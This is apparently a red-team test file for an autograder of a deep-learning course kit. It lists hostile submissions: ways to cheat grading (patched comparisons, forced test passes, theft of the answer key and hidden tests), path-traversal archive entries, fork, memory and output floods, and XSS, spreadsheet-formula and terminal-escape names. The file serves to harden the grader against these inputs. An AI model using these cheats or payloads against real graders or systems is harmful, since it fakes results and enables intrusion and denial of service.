        f.write("\ndef broken(:\n    pass\n")
    return root


def no_needle(folder: Path) -> Path:
    shutil.copytree(KIT / "reference" / "apps", folder / "submission" / "apps")
    return folder / "submission"


def empty_folder(folder: Path) -> Path:
    (folder / "submission").mkdir()
    return folder / "submission"


def not_an_archive(folder: Path) -> Path:
    path = folder / "submission.zip"
    path.write_bytes(b"these are my answers, I promise\n" * 10)
    return path


def gzip_without_tar(folder: Path) -> Path:
    path = folder / "submission.tar.gz"
    path.write_bytes(gzip.compress(b"not a tar inside\n"))
    return path


def _reference_files():
    for name in ("needle", "apps"):
        for path in sorted((KIT / "reference" / name).rglob("*.py")):
            yield path, path.relative_to(KIT / "reference").as_posix()


def zip_with_dotdot(folder: Path) -> Path:
    path = folder / "submission.zip"
    with zipfile.ZipFile(path, "w") as z:
        for source, name in _reference_files():
            z.write(source, name)
        z.writestr("../../escaped.py", "print('written outside the extraction folder')\n")
    return path


def _reference_tar_gz(path: Path, extra: Tuple[Tuple[str, bytes], ...] = ()) -> Path:
    """The reference's files in a .tar.gz, then ``extra`` (name, data) entries."""
    with tarfile.open(path, "w:gz") as t:
        for source, name in _reference_files():
            t.add(source, arcname=name)
        for name, data in extra:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return path


def tar_with_absolute_path(folder: Path) -> Path:
    return _reference_tar_gz(folder / "submission.tar.gz",
                             ((f"/tmp/needle-escape-{os.getpid()}.py", b"print('written anywhere')\n"),))


def zip_with_bad_crc(folder: Path) -> Path:
    path = folder / "submission.zip"
    payload = b"# my answers\n" * 100
    with zipfile.ZipFile(path, "w") as z:  # stored: a changed byte changes the data, not the format
        z.writestr("needle/answers.py", payload)
        for source, name in _reference_files():
            z.write(source, name)
    path.write_bytes(path.read_bytes().replace(payload[:50], b"#" * 50, 1))
    return path


def truncated_tar_gz(folder: Path) -> Path:
    path = _reference_tar_gz(folder / "submission.tar.gz")
    path.write_bytes(path.read_bytes()[:path.stat().st_size // 2])
    return path


def zip_with_file_and_folder_of_same_name(folder: Path) -> Path:
    path = folder / "submission.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("needle/ops", "x = 1\n")
        for source, name in _reference_files():
            z.write(source, name)
    return path


def deeply_nested_source(folder: Path) -> Path:
    root = copy_root(KIT / "reference", folder / "submission")
    (root / "needle" / "ops" / "nested.py").write_text("x = " + "-" * 100000 + "1\n", encoding="utf-8")
    return root


def huge_python_file(folder: Path) -> Path:
    root = copy_root(KIT / "reference", folder / "submission")
    # Valid Python, compiled in the grader's process before any sandbox: 5 MB took 887 MB (red team).
    (root / "needle" / "ops" / "huge.py").write_text("x = 1 + 2 * 3\n" * 100_000, encoding="utf-8")
    return root


def deep_folder_chain(folder: Path) -> Path:
    root = copy_root(KIT / "reference", folder / "submission")
    deep = root / "needle" / ("a/" * 300)
    deep.mkdir(parents=True)
    (deep / "x.py").write_text("", encoding="utf-8")
    return root


WHAT_TO_SUBMIT = "Submit the folders needle/ and apps/"

GALLERY: Tuple[Hostile, ...] = (
    # --- cheats --------------------------------------------------------------
    Hostile("conftest_forces_passes", "cheat", conftest_everywhere,
            "conftest.py (in the submission, and written at run time into every test folder), pytest.ini, "
            "sitecustomize.py, usercustomize.py and a .pth file, all forcing passes"),
    Hostile("numpy_comparisons_patched", "cheat", _with_init("handout", PATCHED_COMPARISONS),
            "numpy.testing and np.allclose / isclose / array_equal patched to always agree"),
    Hostile("report_objects_patched", "cheat", _with_init("handout", FAKE_PASSES),
            "pytest's TestReport patched at import so that every test passes"),
    Hostile("atexit_rewrites_reports", "cheat", _with_init("handout", ATEXIT_REWRITE),
            "an atexit handler rewrites every JSON file it can reach to say passed"),
    Hostile("looks_for_reference_and_key", "cheat", thief,
            "searches the disk and other processes for the reference and the answer key, and uses them"),
    Hostile("git_theft", "cheat", git_thief,
            "reads the reference out of the kit's .git (or any .git it finds) with git show"),
    Hostile("finds_a_second_clone", "cheat", second_clone,
            "walks the file system for another copy of the kit, readable by every user"),
    Hostile("keyring_channel", "cheat", _with_init("handout", KEYRING_CHANNEL, top=""),
            "hidden runs store their test file in a kernel key all may read; public runs print such keys"),
    Hostile("plants_links_at_the_output", "cheat", _with_init("handout", OUTPUT_PLANTER),
            "puts links and FIFOs where the grader writes results.json"),
    Hostile("ndarray_subclass", "cheat", _with_init("handout", NDARRAY_SUBCLASS),
            "ops return an ndarray subclass that agrees with every NumPy comparison"),
    Hostile("always_equal_objects", "cheat", _with_init("handout", ALWAYS_EQUAL),
            "Tensor.numpy returns an object whose == is always true"),
    Hostile("links_to_the_reference", "cheat", linked_to_the_reference,
            "needle/autograd.py and needle/ops/ are symbolic links to the reference's"),
    Hostile("swapped_record_helpers", "cheat", _with_init("handout", SWAPPED_HELPERS),
            "the record channel swapped for one that hands over the expected value, wherever it may be held"),
    Hostile("frame_inspection", "cheat", _with_init("handout", FRAME_INSPECTION),
            "hands over any array a calling frame keeps as expected, want, reference, labels..."),
    Hostile("forged_facts", "cheat", _with_init("handout", FORGED_FACTS),
            "every fact (flag, count) handed over as True, every value garbage"),
    Hostile("hard_coded_public_outputs", "cheat", hard_coded_public_outputs,
            "answers every public check from the public tests' expected values, by test and check"),
    Hostile("shipped_weights", "cheat", shipped_weights,
            "train_softmax and train_nn return weights trained elsewhere (on the test set) that meet the targets",
            suites="hidden"),
    Hostile("labels_as_predictions", "cheat", _with_init("handout", LABELS_AS_PREDICTIONS),
            "hands over MNIST's test labels, read from the files it can reach, as every value"),
    Hostile("exfiltrates_hidden_tests", "cheat", _with_init("handout", EXFILTRATION),
            "puts the hidden tests' source in exceptions, printed output and class names"),
    Hostile("high_rank_values", "cheat", _with_init("handout", HIGH_RANK_VALUES),
            "every op hands over a value of 40 axes, more than NumPy's shape functions take",
            says=("expected shape",)),
    Hostile("guessed_constants", "cheat", _with_init("handout", GUESSED_CONSTANTS),
            "a**0 = 1 and a width-1 log-softmax = 0 (gradients 0), answers that no input changes"),
    Hostile("report_of_wrong_types", "cheat", _with_init("handout", REPORT_OF_WRONG_TYPES),
            "rewrites its report at exit: node ids that are lists and numbers, phases that are strings"),
    Hostile("deeply_nested_json", "cheat", _with_init("handout", DEEP_JSON),
            "rewrites its report and every meta.json as JSON nested 200,000 deep"),
    Hostile("npy_headers_that_lie", "cheat", _with_init("handout", LYING_NPY_HEADERS),
            "hands over 100-byte .npy files whose headers claim 10**12 values, every test passed"),
    Hostile("npy_descr_tuples", "cheat", _with_init("handout", NPY_DESCR_TUPLES),
            "rewrites every value it handed over with a header whose descr is a tuple, every test passed"),
    Hostile("unprintable_strings", "cheat", _with_init("handout", UNPRINTABLE_STRINGS),
            "rewrites every value it handed over as strings of code point 0xFFFFFFFF, every test passed"),
    # --- misbehaving inside some questions --------------------------------------
    Hostile("float_step_counter", "local", _with_init("reference", FLOAT_STEP_COUNTER),
            "Adam counts its steps in a float (3.0 for 3): a count is a number, whatever its dtype",
            touches=(), suites="public"),
    Hostile("shared_temp_channel", "local", _with_init("reference", SHARED_TEMP_PROBE),
            "leaves files in /tmp, /var/tmp and /dev/shm, and fails if an earlier run's are there"),
    Hostile("endless_loop_in_find_topo_sort", "local", _with_init("reference", ENDLESS_TOPO_SORT),
            "find_topo_sort never returns, graded with the default settings", touches=CALLS_TOPO_SORT,
            says=("too slow",), suites="hidden"),
    Hostile("exits_at_import", "local", _with_init("reference", EXIT_AT_IMPORT),
            "os._exit(0) when needle is imported", touches=EVERY_QUESTION, says=("without a report",)),
    Hostile("endless_loop_in_one_op", "local", _with_init("reference", ENDLESS_LOOP),
            "EWisePow.compute never returns: its tests time out one by one", touches=OPS_QUESTIONS,
            says=("Timeout",), suites="public", timeout=60),
    Hostile("sleeps_at_import_ignoring_signals", "local", sleeps_at_import,
            "apps/mlp_resnet.py ignores SIGTERM and friends and sleeps at import", touches=("mlp_resnet",),
            says=("wall-clock limit",), suites="public", timeout=10),
    Hostile("memory_hog", "local", _with_init("reference", MEMORY_HOG),
            "EWisePow.compute allocates until memory runs out", touches=OPS_QUESTIONS, says=("MemoryError",),
            suites="public"),
    Hostile("many_processes", "local", _with_init("reference", MANY_PROCESSES),
            "EWisePow.compute forks a thousand detached sleepers", touches=OPS_QUESTIONS, suites="public"),
    Hostile("output_flood", "local", _with_init("reference", OUTPUT_FLOOD),
            "EWisePow.compute prints 1.2 GB to stdout and stderr", touches=OPS_QUESTIONS,
            says=("printed more than 64 MiB",), suites="public"),
    Hostile("exit_inside_backward", "local", _with_init("reference", EXIT_IN_BACKWARD),
            "sys.exit(0) inside EWisePow.gradient", touches=("backward_ops", "reverse_ad"), suites="public"),
    Hostile("file_where_released_files_go", "cheat", file_where_released_files_go,
            "a file at needle/ops, where hw2's grading puts hw1's released needle/ops/*.py", suites="public",
            assignment="hw2"),
    Hostile("package_shadowing_released_files", "local", package_shadowing_released_files,
            "a package needle/autograd/ with hw1's TODOs, which would be imported before the released "
            "needle/autograd.py", touches=(), suites="public", assignment="hw2"),
    # --- ungradable ------------------------------------------------------------
    Hostile("syntax_error", "ungradable", syntax_error, "a syntax error in needle/autograd.py",
            says=("does not compile", "needle/autograd.py", "Fix the syntax error")),
    Hostile("no_needle_folder", "ungradable", no_needle, "apps/ only",
            says=("no needle/ folder", WHAT_TO_SUBMIT)),
    Hostile("empty_folder", "ungradable", empty_folder, "an empty folder", says=("no needle/ folder", WHAT_TO_SUBMIT)),
    Hostile("not_an_archive", "ungradable", not_an_archive, "text named .zip",
            says=("submission.zip", WHAT_TO_SUBMIT)),
    Hostile("gzip_without_tar", "ungradable", gzip_without_tar, "a gzip file holding no tar",
            says=("submission.tar.gz", WHAT_TO_SUBMIT)),
    Hostile("zip_with_dotdot", "ungradable", zip_with_dotdot, "a zip entry ../../escaped.py",
            says=("unsafe path", "'../../escaped.py'", WHAT_TO_SUBMIT)),
    Hostile("tar_with_absolute_path", "ungradable", tar_with_absolute_path, "a tar entry with an absolute path",
            says=("unsafe path", "/tmp/needle-escape-", WHAT_TO_SUBMIT)),
    Hostile("zip_with_bad_crc", "ungradable", zip_with_bad_crc, "a zip member whose bytes no longer match its CRC",
            says=("submission.zip cannot be read", "Bad CRC-32", "damaged", WHAT_TO_SUBMIT)),
    Hostile("truncated_tar_gz", "ungradable", truncated_tar_gz, "a .tar.gz cut in half",
            says=("submission.tar.gz cannot be read", "truncated", WHAT_TO_SUBMIT)),
    Hostile("file_and_folder_of_same_name", "ungradable", zip_with_file_and_folder_of_same_name,
            "a zip holding needle/ops both as a file and as a folder",
            says=("'needle/ops' is both a file and a folder", WHAT_TO_SUBMIT)),
    Hostile("deeply_nested_source", "ungradable", deeply_nested_source, "an expression nested 100,000 deep",
            says=("does not compile", "needle/ops/nested.py: too deeply nested to compile")),
    Hostile("huge_python_file", "ungradable", huge_python_file, "a 1.4 MB Python file",
            says=("may hold at most 1024 KiB", "needle/ops/huge.py: 1367 KiB", WHAT_TO_SUBMIT)),
    Hostile("deep_folder_chain", "ungradable", deep_folder_chain, "300 nested folders in needle/",
            says=("too deep or too long", "more than 32 levels deep", WHAT_TO_SUBMIT)),
)
BY_NAME = {h.name: h for h in GALLERY}


# --- hostile entries of a class folder (batch, similar) ----------------------
# Found by the red team: each is one entry among honest classmates; batch
# must still give every student a row (the hostile one "ungradable" with
# its reason, or graded) and finish; similar must finish and skip it or
# compare it.  They run in the grader's own process before any sandbox.


@dataclass(frozen=True)
class ClassHostile:
    name: str
    make: Callable[[Path], None]  # adds the entry (or entries) to a class folder
    why: str
    student: Optional[str]  # the entry's name as batch shows it (None: cut short, with a digest)
    says: str = ""  # a phrase of its results' output ("" when it is graded)


def _honest(folder: Path, name: str) -> Path:
    return copy_root(KIT / "handout", folder / name)


def _non_utf8_file_inside(folder: Path) -> None:
    root = _honest(folder, "nina")
    (root / os.fsdecode(b"notes-\xff.txt")).write_text("a file name no UTF-8 decodes")


def _deep_folder_inside(folder: Path) -> None:
    root = _honest(folder, "dave")
    # deeper than Python's recursion limit (os.walk, Path.rglob of 3.11)
    fd = os.open(root, os.O_RDONLY)
    try:
        for _ in range(1100):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
    finally:
        os.close(fd)


def _non_utf8_entry_name(folder: Path) -> None:
    _honest(folder, os.fsdecode(b"jos\xe9"))


def _fifo_named_like_an_archive(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / "mallory.zip")


def _link_to_the_reference(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "eve").symlink_to(KIT / "reference", target_is_directory=True)


def _formula_name(folder: Path) -> None:
    _honest(folder, "=SUM(1,2)")


def _markup_everywhere(folder: Path) -> None:
    root = _honest(folder, "<img src=x onerror=alert(1)>")
    (root / "needle" / "<script>alert(2)<.py").write_text("x = 1\n")


def _huge_source(folder: Path) -> None:
    root = _honest(folder, "hugo")
    # 280 KB of valid Python: at 50 MiB (what a submission may hold), tokenizing took gigabytes
    (root / "needle" / "huge.py").write_text("x = 1 + 2 * 3\n" * 20_000)


def _link_loop(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "loop").symlink_to("loop")


def _long_name(folder: Path) -> None:
    _honest(folder, os.fsdecode(b"\xe9" * 64))  # 64 bytes, 256 characters once escaped


def _many_sources(folder: Path) -> None:
    root = _honest(folder, "mona")
    for i in range(12):  # 3 MB that similar would tokenize at 11 s a file
        (root / "needle" / f"extra_{i:02d}.py").write_text(f"y{i} = 4 + 5 * 6\n" * 15_000)


def _escapes_in_a_message(folder: Path) -> None:
    root = folder / "tess"
    copy_root(KIT / "handout", root / "hw\x1b[2J")
    (root / "hw\x1b[2J" / "needle" / "__init__.py").unlink()  # the message names the folder


CLASS_GALLERY: Tuple[ClassHostile, ...] = (
    ClassHostile("link_loop", _link_loop, "an entry that is a link to itself", "loop", says="is a symbolic link"),
    ClassHostile("long_name", _long_name, "a name longer than a file name once escaped", None),
    ClassHostile("many_sources", _many_sources, "many Python files that similar would tokenize for minutes",
                 "mona"),
    ClassHostile("escapes_in_a_message", _escapes_in_a_message, "a folder name with a terminal escape, which the "
                 "ungradable message names", "tess", says="__init__.py is missing"),
    ClassHostile("non_utf8_file_inside", _non_utf8_file_inside, "a file name in the folder that is not UTF-8",
                 "nina"),
    ClassHostile("deep_folder_inside", _deep_folder_inside, "1,100 nested folders beside needle/ and apps/", "dave"),
    ClassHostile("non_utf8_entry_name", _non_utf8_entry_name, "the entry's own name is not UTF-8 (jos\\xe9)",
                 "jos\\xe9"),
    ClassHostile("fifo_named_like_an_archive", _fifo_named_like_an_archive, "a FIFO called mallory.zip: reading "
                 "it blocks forever", "mallory", says="neither a folder nor a regular file"),
    ClassHostile("link_to_the_reference", _link_to_the_reference, "eve -> the kit's reference/", "eve",
                 says="is a symbolic link"),
    ClassHostile("formula_name", _formula_name, "an entry named like a spreadsheet formula",
                 "=SUM(1,2)"),
    ClassHostile("markup_everywhere", _markup_everywhere, "an entry and a file named with HTML that runs script",
                 "<img src=x onerror=alert(1)>"),
    ClassHostile("huge_source", _huge_source, "a Python file past what similar tokenizes (5 MB took 1.8 GB)",
                 "hugo"),
)
